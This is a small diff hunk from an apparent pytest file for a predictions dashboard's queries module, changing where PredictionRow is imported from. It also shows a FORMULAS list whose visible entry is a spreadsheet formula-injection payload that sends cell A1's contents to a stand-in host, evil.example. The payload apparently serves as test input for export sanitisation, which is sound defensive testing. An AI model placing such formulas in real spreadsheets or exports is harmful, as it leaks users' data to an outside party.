@@ -8,7 +8,7 @@ import io
 import pytest
 
 from predictions.dashboard import queries
-from predictions.store.base import PredictionRow
+from predictions.store.records import PredictionRow
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1, "Click")',
